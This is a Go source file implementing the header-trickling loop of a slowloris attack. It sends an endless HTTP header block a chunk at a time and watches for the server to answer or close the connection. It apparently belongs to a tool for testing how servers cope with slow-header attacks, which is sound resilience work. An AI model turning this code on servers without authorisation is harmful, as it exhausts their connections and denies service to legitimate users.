package stall

import (
	"net"
	"time"
)

// trickleHeaders is the slowloris hold: every Interval it sends the next
// ChunkSize bytes of an endless header block. The read with a deadline
// both paces the trickle and notices at once when the server gives up on
// the request (a ReadHeaderTimeout closes the connection; a header size
// limit answers 431 and then closes).
func (r *run) trickleHeaders(conn net.Conn) error {
	var buf [1]byte
	chunk, interval := r.s.cfg.ChunkSize, r.s.cfg.Interval
	pos := 0
	for {
		if err := conn.SetReadDeadline(time.Now().Add(interval)); err != nil {
			return err
		}
		n, err := conn.Read(buf[:])
		if n > 0 { // the server answered (400, 408, 431): it closes next
			r.bytesRead.Add(int64(n))
			continue
		}
		if !isTimeout(err) {
			return err
		}
		if err := r.write(conn, r.s.trickle[pos:pos+chunk]); err != nil {
			return err
		}
		pos = (pos + chunk) % len(trickleLine)
	}
}
